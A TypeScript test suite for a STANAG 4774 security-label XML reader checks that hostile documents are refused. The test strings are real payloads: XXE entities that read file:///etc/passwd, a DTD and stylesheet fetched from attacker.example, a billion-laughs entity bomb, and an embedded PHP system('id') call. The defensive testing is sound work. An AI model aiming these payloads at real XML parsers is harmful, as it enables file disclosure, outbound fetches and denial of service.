/**
 * Hostile STANAG 4774 XML: every document that tries to make the reader fetch, expand, recurse
 * or read more than it should is refused with its named reason, and quickly.
 */
import { describe, expect, it } from 'vitest';
import { LabelError, type LabelReason } from './errors.js';
import { labelFromXml, STANAG_4774_NS } from './xml-4774.js';
import type { XmlLimits } from './xml-reader.js';

const label = (inner: string, root = 'originatorConfidentialityLabel') =>
  `<slab:${root} xmlns:slab="${STANAG_4774_NS}">${inner}</slab:${root}>`;
const information = (classification = '<slab:Classification>SECRET</slab:Classification>', extra = '') =>
  `<slab:ConfidentialityInformation><slab:PolicyIdentifier>NATO</slab:PolicyIdentifier>${classification}${extra}</slab:ConfidentialityInformation>`;
const created = '<slab:CreationDateTime>2026-11-23T08:00:00Z</slab:CreationDateTime>';
const valid = label(information() + created);

function reasonOf(xml: string | Uint8Array, limits?: XmlLimits): LabelReason | 'accepted' {
  const started = performance.now();
  try {
    labelFromXml(xml, limits);
  } catch (error) {
    if (!(error instanceof LabelError)) throw error;
    // Refusals are cheap: nothing hostile gets to make the reader work for it.
    expect(performance.now() - started).toBeLessThan(500);
    expect(error.message).not.toMatch(/\n/);
    return error.reason;
  }
  return 'accepted';
}

describe('hostile XML', () => {
  it('accepts the plain document these cases start from', () => {
    expect(reasonOf(valid)).toBe('accepted');
  });

  it('refuses a DTD with an external entity (XXE to file:///etc/passwd)', () => {
    const xxe = `<?xml version="1.0"?><!DOCTYPE slab:originatorConfidentialityLabel [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>${label(information('<slab:Classification>&xxe;</slab:Classification>') + created)}`;
    expect(reasonOf(xxe)).toBe('xml-dtd');
    expect(reasonOf(`<!DOCTYPE x SYSTEM "http://attacker.example/x.dtd">${valid}`)).toBe('xml-dtd');
    expect(reasonOf(`<!doctype x>${valid}`)).toBe('xml-dtd');
    expect(reasonOf(`<!DOCTYPE x [<!ENTITY % p SYSTEM "file:///etc/passwd"> %p;]>${valid}`)).toBe('xml-dtd');
  });

  it('refuses billion laughs (nested entity expansion) before expanding anything', () => {
    const levels = Array.from({ length: 10 }, (_, i) => `<!ENTITY lol${i + 1} "${`&lol${i};`.repeat(10)}">`).join('');
    const laughs = `<?xml version="1.0"?><!DOCTYPE lolz [<!ENTITY lol0 "lol">${levels}]>${label(information('<slab:Classification>&lol10;</slab:Classification>') + created)}`;
    expect(reasonOf(laughs)).toBe('xml-dtd');
  });

  it('refuses an undefined entity, in text or in an attribute; the five predefined ones and character references pass', () => {
    expect(reasonOf(valid.replace('>SECRET<', '>&secret;<'))).toBe('xml-entity');
    expect(reasonOf(valid.replace('<slab:PolicyIdentifier>', '<slab:PolicyIdentifier URI="&oid;">'))).toBe('xml-entity');
    expect(reasonOf(valid.replace('>SECRET<', '>&nbsp;SECRET<'))).toBe('xml-entity');
    expect(reasonOf(valid.replace('>SECRET<', '>&#83;E&#x43;RET<'))).toBe('accepted');
    const mark = '<slab:PrivacyMark>A&amp;B &lt;&gt; &quot;&apos;</slab:PrivacyMark>';
    expect(labelFromXml(label(information(undefined, mark) + created)).privacyMark).toBe('A&B <> "\'');
  });

  it('refuses a megabyte of nesting quickly, as too large, and as too deep when the size cap is raised', () => {
    const deep = '<a>'.repeat(350_000) + '</a>'.repeat(350_000);
    expect(deep.length).toBeGreaterThan(1_000_000);
    expect(reasonOf(deep)).toBe('xml-too-large');
    expect(reasonOf(Buffer.from(deep))).toBe('xml-too-large');
    expect(reasonOf(deep, { maxBytes: 4 * 1024 * 1024, maxDepth: 16 })).toBe('xml-too-deep');
    const nested = `<slab:x xmlns:slab="${STANAG_4774_NS}">`.repeat(5_000);
    expect(reasonOf(nested, { maxBytes: 4 * 1024 * 1024, maxDepth: 16 })).toBe('xml-too-deep');
    // Within the size cap, depth is still counted.
    expect(reasonOf('<a>'.repeat(17) + '</a>'.repeat(17))).toBe('xml-too-deep');
  });

  it('refuses 100 KB of text, as a string or as bytes', () => {
    const big = valid.replace('>SECRET<', `>${'S'.repeat(100 * 1024)}<`);
    expect(reasonOf(big)).toBe('xml-too-large');
    expect(reasonOf(new TextEncoder().encode(big))).toBe('xml-too-large');
    // Measured in UTF-8 bytes, not characters: 30 000 three-byte characters are 90 KB.
    expect(reasonOf(valid.replace('>SECRET<', `>${'€'.repeat(30_000)}<`))).toBe('xml-too-large');
  });

  it('refuses the wrong namespace, at the root or below it', () => {
    expect(reasonOf(valid.replaceAll(STANAG_4774_NS, 'urn:nato:stanag:4774:confidentialitymetadatalabel:2:0'))).toBe('xml-wrong-namespace');
    expect(reasonOf('<originatorConfidentialityLabel/>')).toBe('xml-wrong-namespace');
    const foreignChild = valid.replace('<slab:Classification>SECRET</slab:Classification>', '<x:Classification xmlns:x="urn:example">SECRET</x:Classification>');
    expect(reasonOf(foreignChild)).toBe('xml-wrong-namespace');
    const unqualifiedChild = label(information('<Classification>SECRET</Classification>') + created);
    expect(reasonOf(unqualifiedChild)).toBe('xml-wrong-namespace');
  });

  it('refuses malformed XML', () => {
    for (const xml of [
      '',
      '<unclosed>',
      valid.slice(0, -5),
      valid.replace('</slab:Classification>', '</slab:Classif>'),
      `${valid}${valid}`,
      `text before ${valid}`,
      `<p:x>${valid}</p:x>`,
      valid.replace('>SECRET<', '>&#0;<'),
      valid.replace('>SECRET<', '>S&E<'),
      valid.replace('<slab:Classification>', '<slab:Classification a="1" a="2">'),
      '<?xml version="1.0"?>',
    ]) {
      expect(reasonOf(xml), xml.slice(0, 80)).toBe('xml-malformed');
    }
  });

  it('refuses processing instructions, but not the XML declaration', () => {
    expect(reasonOf(`<?xml version="1.0" encoding="UTF-8"?>${valid}`)).toBe('accepted');
    expect(reasonOf(`<?xml-stylesheet href="http://attacker.example/x.xsl"?>${valid}`)).toBe('xml-processing-instruction');
    expect(reasonOf(valid.replace('<slab:Classification>', '<?php system("id") ?><slab:Classification>'))).toBe('xml-processing-instruction');
    expect(reasonOf(`${valid}<?tail?>`)).toBe('xml-processing-instruction');
  });

  it('reads UTF-8 only', () => {
    expect(reasonOf(`<?xml version="1.0" encoding="ISO-8859-1"?>${valid}`)).toBe('xml-encoding');
    expect(reasonOf(`<?xml version="1.0" encoding="UTF-16"?>${valid}`)).toBe('xml-encoding');
    expect(reasonOf(new Uint8Array([0x3c, 0x61, 0xff, 0xfe, 0x3e]))).toBe('xml-encoding');
    expect(reasonOf(new Uint8Array([0xef, 0xbb, 0xbf, ...new TextEncoder().encode(valid)]))).toBe('accepted');
  });
});
